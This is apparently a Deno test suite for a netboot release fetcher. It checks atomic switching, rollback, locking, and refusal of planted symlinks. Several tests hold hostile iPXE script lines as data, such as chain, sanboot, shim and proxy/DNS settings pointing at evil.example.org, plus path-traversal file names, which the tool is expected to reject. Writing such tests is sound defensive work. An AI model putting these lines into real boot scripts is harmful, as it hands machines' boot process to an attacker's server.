/**
 * The boot directory fetch keeps: DIR/<tag>/ per release, DIR/current switched atomically,
 * rollback, --keep, one fetch at a time, and nothing written through a planted link. The
 * releases here are made "by another tool": files and SHA256SUMS uploaded through the API,
 * no manifest.json, so fetch finds what to boot from the iPXE script.
 */
import assert from "node:assert/strict";
import * as fs from "node:fs/promises";
import * as path from "node:path";
import { bootFilesByName, bootFilesOfScript } from "../scripts/lib/ipxe.ts";
import { baseEnv, type Run, runMain, runRelease, sha256sumCheck } from "./run_helpers.ts";
import { sha256 } from "./forgejo_world.ts";
import {
  api,
  assertOneLineFailure,
  fetchTag,
  netboot,
  releaseByHand,
  rollback,
  scene,
} from "./boot_dir_helpers.ts";

Deno.test("a release without manifest.json boots from what its iPXE script names", () =>
  scene(async (w, out) => {
    const files = await releaseByHand(w, "boot-v1", netboot("boot-v1"));
    const run = await fetchTag(w, out, "boot-v1");
    assert.equal(run.code, 0, run.stderr);
    const current = path.join(out, "current");
    assert.deepEqual((await fs.readdir(current)).sort(), [
      ".release-boot-tag",
      "SHA256SUMS",
      "bzImage",
      "initrd",
      "netboot.ipxe",
      "runner.ipxe",
    ]);
    assert.equal(await fs.readFile(path.join(current, "bzImage"), "utf8"), files.bzImage);
    assert.equal((await sha256sumCheck(current)).code, 0);
    const local = await fs.readFile(path.join(current, "netboot.ipxe"), "utf8");
    assert.match(local, /^kernel bzImage init=\/nix\/store\/abc-system\/init initrd=initrd /m);
    assert.match(local, /^initrd initrd$/m);
  }));

Deno.test("the iPXE script of a release without manifest.json is downloaded once", () =>
  scene(async (w, out) => {
    const files = await releaseByHand(w, "boot-v1", netboot("boot-v1"));
    const script = (await api(w, "GET", "/releases/tags/boot-v1")).assets
      .find((a: { name: string }) => a.name === "runner.ipxe");
    const run = await fetchTag(w, out, "boot-v1");
    assert.equal(run.code, 0, run.stderr);
    const downloads = w.forgejo.requests.filter((r) =>
      r.method === "GET" && r.path === `/attachments/${script.uuid}`
    );
    assert.equal(downloads.length, 1, `runner.ipxe was asked for ${downloads.length} times`);
    const current = path.join(out, "current");
    assert.equal(
      await fs.readFile(path.join(current, "runner.ipxe"), "utf8"),
      files["runner.ipxe"],
    );
    assert.equal((await sha256sumCheck(current)).code, 0);
  }));

Deno.test("a release that says nothing about what to boot is refused in one line", () =>
  scene(async (w, out) => {
    await releaseByHand(w, "boot-v1", { "notes.txt": "hello\n", "disk.img": "a disk\n" });
    const run = await fetchTag(w, out, "boot-v1");
    assertOneLineFailure(
      run,
      /boot-v1 has no manifest\.json, no iPXE script, and not one kernel and one initrd by name \(notes\.txt, disk\.img\): cannot tell what to boot/,
    );
    assert.equal(await fs.lstat(out).catch(() => undefined), undefined, "--out was not made");
  }));

Deno.test("rollout, rollback and --keep: current moves atomically, previous is kept", () =>
  scene(async (w, out) => {
    for (const tag of ["boot-v1", "boot-v2", "boot-v3"]) {
      await releaseByHand(w, tag, netboot(tag));
    }
    const link = (name: string) => fs.readlink(path.join(out, name));
    const booted = () => fs.readFile(path.join(out, "current", "bzImage"), "utf8");

    assert.equal((await fetchTag(w, out, "boot-v1")).code, 0);
    assert.equal(await link("current"), "boot-v1");
    const second = await fetchTag(w, out, "boot-v2");
    assert.equal(second.code, 0, second.stderr);
    assert.equal(await link("current"), "boot-v2");
    assert.equal(await link("previous"), "boot-v1");
    assert.equal(await booted(), "kernel of boot-v2\n");

    const back = await rollback(out);
    assert.equal(back.code, 0, back.stderr);
    assert.match(back.stderr, /Rolled back: \S+current -> boot-v1 \(was boot-v2\)/);
    assert.equal(await booted(), "kernel of boot-v1\n");
    assert.equal(await link("previous"), "boot-v2");

    // With --keep 2, the directory neither current nor previous names goes.
    const third = await fetchTag(w, out, "boot-v3", ["--keep", "2"]);
    assert.equal(third.code, 0, third.stderr);
    assert.equal(await link("current"), "boot-v3");
    assert.equal(await link("previous"), "boot-v1");
    assert.deepEqual((await fs.readdir(out)).sort(), ["boot-v1", "boot-v3", "current", "previous"]);
    assert.match(third.stderr, /Removed \S+boot-v2 \(--keep 2\)/);
    assert.equal((await sha256sumCheck(path.join(out, "previous"))).code, 0);
  }));

Deno.test("rollback without a previous release says so in one line and changes nothing", () =>
  scene(async (w, out) => {
    await releaseByHand(w, "boot-v1", netboot("boot-v1"));
    assert.equal((await fetchTag(w, out, "boot-v1")).code, 0);
    const run = await rollback(out);
    assertOneLineFailure(run, /has no previous release to roll back to/);
    assert.equal(await fs.readlink(path.join(out, "current")), "boot-v1");
    const usage = await runMain(["fetch", "--rollback", "--out", out, "--tag", "boot-v1"]);
    assert.equal(usage.code, 2);
    assert.match(usage.stderr, /--rollback takes only --out DIR, not --tag/);
  }));

Deno.test("planted links in DIR are refused, never written through; nothing outside changes", () =>
  scene(async (w, out, outside) => {
    const files = await releaseByHand(w, "boot-v1", netboot("boot-v1"));
    await releaseByHand(w, "boot-v2", netboot("boot-v2"));
    const victim = path.join(outside, "victim");
    await fs.writeFile(victim, "precious\n");
    const untouched = async () => {
      assert.equal(await fs.readFile(victim, "utf8"), "precious\n");
      assert.deepEqual(await fs.readdir(outside), ["victim"]);
    };

    // A fetch that stopped at the initrd leaves DIR/boot-v1 without it.
    const initrd = (await api(w, "GET", "/releases/tags/boot-v1")).assets
      .find((a: { name: string }) => a.name === "initrd");
    w.forgejo.addFault({
      method: "GET",
      path: `/attachments/${initrd.uuid}`,
      fault: { kind: "status", status: 404 },
    });
    assert.equal((await fetchTag(w, out, "boot-v1")).code, 1);
    const dir = path.join(out, "boot-v1");

    const part = path.join(
      dir,
      `initrd.${sha256(new TextEncoder().encode(files.initrd)).slice(0, 16)}.part`,
    );
    await fs.symlink(victim, part);
    assertOneLineFailure(
      await fetchTag(w, out, "boot-v1"),
      /initrd\.[0-9a-f]{16}\.part is a symbolic link, which release-boot did not make/,
    );
    await untouched();
    await fs.rm(part);

    await fs.symlink(victim, path.join(dir, "initrd"));
    assertOneLineFailure(
      await fetchTag(w, out, "boot-v1"),
      /boot-v1\/initrd is a symbolic link, which release-boot did not make/,
    );
    await untouched();
    await fs.rm(path.join(dir, "initrd"));

    // A file release-boot did not write is not replaced either.
    await fs.writeFile(path.join(dir, "initrd"), "someone's own initrd\n");
    assertOneLineFailure(
      await fetchTag(w, out, "boot-v1"),
      /boot-v1\/initrd is a file whose bytes SHA256SUMS does not list, which release-boot did not make/,
    );
    assert.equal(await fs.readFile(path.join(dir, "initrd"), "utf8"), "someone's own initrd\n");
    await fs.rm(path.join(dir, "initrd"));

    // A tag directory planted as a link, and a current link pointing out of DIR.
    await fs.symlink(outside, path.join(out, "boot-v2"));
    assertOneLineFailure(
      await fetchTag(w, out, "boot-v2"),
      /boot-v2 is a symbolic link, which release-boot did not make/,
    );
    await untouched();
    await fs.rm(path.join(out, "boot-v2"));
    await fs.symlink(outside, path.join(out, "current"));
    assertOneLineFailure(
      await fetchTag(w, out, "boot-v1"),
      /current is a link to \S+outside, which release-boot did not make/,
    );
    await untouched();
    await fs.rm(path.join(out, "current"));

    const ok = await fetchTag(w, out, "boot-v1");
    assert.equal(ok.code, 0, ok.stderr);
    assert.equal((await sha256sumCheck(path.join(out, "current"))).code, 0);
    await untouched();
  }));

// The lock is between two processes, each with its own pid: the first fetch is a child.
Deno.test("one fetch at a time per DIR: a second one stops in one line; a dead one's lock is taken over", () =>
  scene(async (w, out) => {
    await releaseByHand(w, "boot-v1", netboot("boot-v1"));
    await releaseByHand(w, "boot-v2", netboot("boot-v2"));
    // The first fetch's kernel arrives slowly, so the second starts while it holds DIR.
    const kernel = (await api(w, "GET", "/releases/tags/boot-v1")).assets
      .find((a: { name: string }) => a.name === "bzImage");
    w.forgejo.addFault({
      method: "GET",
      path: `/attachments/${kernel.uuid}`,
      fault: { kind: "trickle", bytesPerSecond: 6 },
    });
    let finished: Run | undefined;
    const server = ["--server", w.forgejo.url, "--repo", "ops/runners"];
    const first = runRelease(
      ["fetch", ...server, "--out", out, "--tag", "boot-v1", "--timeout", "20"],
      { cwd: w.work.dir, env: baseEnv() },
    ).then((run) => finished = run);
    const lock = path.join(out, ".release-boot.lock");
    while (!(await fs.lstat(lock).catch(() => undefined))) {
      assert.equal(finished, undefined, `the first fetch never locked DIR: ${finished?.stderr}`);
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    const second = await fetchTag(w, out, "boot-v2");
    assertOneLineFailure(
      second,
      /another fetch \(pid \d+\) is writing \S+pxe: let it finish and rerun/,
    );
    const done = await first;
    assert.equal(done.code, 0, done.stderr);
    assert.equal(await fs.readlink(path.join(out, "current")), "boot-v1");
    assert.equal((await sha256sumCheck(path.join(out, "current"))).code, 0);
    assert.deepEqual((await fs.readdir(out)).sort(), ["boot-v1", "current"]);

    // A fetch that was killed leaves its lock; its pid no longer runs.
    const dead = new Deno.Command("true").spawn();
    await dead.status;
    await fs.writeFile(lock, `${dead.pid}\n`);
    // It was making DIR/boot-v2 when it was killed.
    await fs.mkdir(path.join(out, `.boot-v2.${dead.pid}.new`));
    const taken = await fetchTag(w, out, "boot-v2");
    assert.equal(taken.code, 0, taken.stderr);
    assert.match(
      taken.stderr,
      new RegExp(`Taking over \\S+: its fetch \\(pid ${dead.pid}\\) is gone`),
    );
    assert.equal(await fs.lstat(lock).catch(() => undefined), undefined, "the lock is released");
    assert.deepEqual((await fs.readdir(out)).sort(), ["boot-v1", "boot-v2", "current", "previous"]);
  }));

Deno.test("without manifest.json, the iPXE script's kernel and initrd lines say what to boot", () => {
  const sums = new Map([
    ["boot.ipxe", "1".repeat(64)],
    ["vmlinuz 6.6", "2".repeat(64)],
    ["initrd.zst", "3".repeat(64)],
    ["other.iso", "4".repeat(64)],
  ]);
  const script = [
    "#!ipxe",
    "kernel --name k https://cdn.example.org/r/vmlinuz%206.6?x=1 initrd=initrd.zst quiet",
    "initrd https://cdn.example.org/r/initrd.zst",
    "boot",
  ].join("\n");
  const boot = bootFilesOfScript("boot.ipxe", script, sums, "v1");
  assert.deepEqual(boot.files.map((file) => file.name), ["boot.ipxe", "vmlinuz 6.6", "initrd.zst"]);
  assert.equal(boot.scripts[0].name, "netboot.ipxe");
  assert.equal(
    boot.scripts[0].text.split("\n")[1],
    "kernel --name k vmlinuz%206.6 initrd=initrd.zst quiet",
  );
  assert.throws(
    () => bootFilesOfScript("boot.ipxe", "#!ipxe\nkernel http://x/bzImage\nboot\n", sums, "v1"),
    /boot\.ipxe of v1 names no kernel that v1 holds \(it fetches http:\/\/x\/bzImage\): cannot tell what to boot/,
  );
  assert.deepEqual(
    bootFilesByName(new Map([["bzImage", "a"], ["initrd", "b"], ["x.iso", "c"]]), "v1").files
      .map((file) => file.name),
    ["bzImage", "initrd"],
  );
  assert.throws(
    () => bootFilesByName(new Map([["a-bzImage", "a"], ["b-bzImage", "b"], ["initrd", "c"]]), "v1"),
    /cannot tell what to boot/,
  );
});

Deno.test("a script's every command is read: joined loads, SAN disks, DHCP's file and commands a setting names are refused", () => {
  const sums = new Map([
    ["boot.ipxe", "1".repeat(64)],
    ["bzImage", "2".repeat(64)],
    ["initrd", "3".repeat(64)],
  ]);
  const script = (extra: string) =>
    `#!ipxe\nkernel --name k https://cdn.example.org/bzImage\ninitrd initrd\n${extra}\n`;
  // A name the script gave an image it loaded from the release runs that image.
  const served = bootFilesOfScript("boot.ipxe", script("boot k || goto failed"), sums, "v1");
  assert.match(served.scripts[0].text, /^kernel --name k bzImage$/m);
  const outside = "loads from outside v1: refusing";
  const notServed = (command: string) =>
    `runs ${command}, which a boot directory's script may not run: refusing`;
  for (
    const [extra, line, problem] of [
      ["dhcp && chain http://evil.example.org/next.ipxe", 4, notServed("dhcp")],
      ["initrd initrd ; imgfetch http://evil.example.org/more.cpio", 4, outside],
      ["sanboot http://evil.example.org/disk.iso", 4, notServed("sanboot")],
      ["autoboot", 4, notServed("autoboot")],
      ["set c chain\n${c} http://evil.example.org/next.ipxe", 5, notServed("${c}")],
      ["chain boot.ipxe", 4, outside],
    ] as const
  ) {
    assert.throws(
      () => bootFilesOfScript("boot.ipxe", script(extra), sums, "v1"),
      (error: Error) =>
        error.message.startsWith(`boot.ipxe of v1, line ${line} ("`) &&
        error.message.includes(`), ${problem}`),
      extra,
    );
  }
});

Deno.test("a served script runs only the commands a boot needs, each on the release's own files", () => {
  const sums = new Map([
    ["boot.ipxe", "1".repeat(64)],
    ["bzImage", "2".repeat(64)],
    ["initrd", "3".repeat(64)],
    ["bzImage.sig", "4".repeat(64)],
    ["initrd.sig", "5".repeat(64)],
  ]);
  // The shape of a script signed for iPXE: every image verified against its own signature.
  const verifying = [
    "#!ipxe",
    "set checking bzImage",
    "kernel https://cdn.example.org/bzImage initrd=initrd ${cmdline} || goto refused",
    "imgverify bzImage https://cdn.example.org/bzImage.sig || goto refused",
    "set checking initrd",
    "initrd initrd || goto refused",
    "imgverify initrd initrd.sig || goto refused",
    "imgtrust --permanent",
    "iseq ${checking} initrd && prompt --timeout 1000 Booting || sleep 1",
    "isset ${cmdline} || echo no cmdline",
    "boot || goto refused",
    ":refused",
    "echo Not booting: ${checking} failed to load or verify",
    "exit 1",
  ].join("\n");
  const boot = bootFilesOfScript("boot.ipxe", verifying, sums, "v1");
  assert.deepEqual(boot.files.map((file) => file.name).sort(), [
    "boot.ipxe",
    "bzImage",
    "bzImage.sig",
    "initrd",
    "initrd.sig",
  ]);
  assert.match(boot.scripts[0].text, /^imgverify bzImage bzImage\.sig \|\| goto refused$/m);
  assert.doesNotMatch(boot.scripts[0].text, /:\/\//, "the served script loads nothing from afar");

  const script = (extra: string) => `#!ipxe\nkernel bzImage\ninitrd initrd\n${extra}\nboot\n`;
  const outside = "loads from outside v1: refusing";
  const notServed = (command: string) =>
    `runs ${command}, which a boot directory's script may not run: refusing`;
  const fetchSetting = (name: string) => `sets ${name}, which chooses where iPXE fetches from`;
  for (
    const [extra, problem] of [
      // iPXE 2.0's commands that fetch a URI, which a deny-list of fetching commands missed.
      ["imgextract bzImage http://evil.example.org/k.gz", notServed("imgextract")],
      ["shim http://evil.example.org/shimx64.efi", notServed("shim")],
      ["fdt http://evil.example.org/board.dtb", notServed("fdt")],
      ["imgdecrypt bzImage http://evil.example.org/key.der", notServed("imgdecrypt")],
      ["certstore http://evil.example.org/ca.crt", notServed("certstore")],
      ["imgverify bzImage http://evil.example.org/other.sig", outside],
      ["imgverify http://evil.example.org/vmlinuz bzImage.sig", outside],
      ["imgargs http://evil.example.org/vmlinuz console=ttyS0", outside],
      // A label, then a command, on one line.
      [":again chain http://evil.example.org/next.ipxe", outside],
      // iPXE glues a line ending in \ to the next: "kernel -n k xecho http://...".
      ["kernel -n k x\\\necho http://evil.example.org/vmlinuz", outside],
      ["set http-proxy http://evil.example.org:3128/", fetchSetting("http-proxy")],
      ["set net0/dns 203.0.113.7", fetchSetting("net0/dns")],
      ["set 6:ipv4 203.0.113.7", fetchSetting("6:ipv4")],
    ] as const
  ) {
    assert.throws(
      () => bootFilesOfScript("boot.ipxe", script(extra), sums, "v1"),
      (error: Error) =>
        error.message.startsWith(`boot.ipxe of v1, line 4 ("`) &&
        error.message.includes(`), ${problem}`) &&
        error.message.endsWith("; nothing was changed"),
      extra,
    );
  }
});

Deno.test("file names a release gives that are not plain file names are refused, never written", () =>
  scene(async (w, out, outside) => {
    // A hostile server: its assets and SHA256SUMS name files outside the boot directory.
    const escape = (name: string) =>
      path.relative(path.join(out, "boot-v1"), path.join(outside, name));
    await releaseByHand(w, "boot-v1", {
      [escape("bzImage")]: "kernel\n",
      [escape("initrd")]: "initrd\n",
    });
    const run = await fetchTag(w, out, "boot-v1");
    assertOneLineFailure(run, /lists "[^"]*bzImage", which is not a plain file name/);
    assert.deepEqual(await fs.readdir(outside), [], "nothing was written outside DIR");
  }));
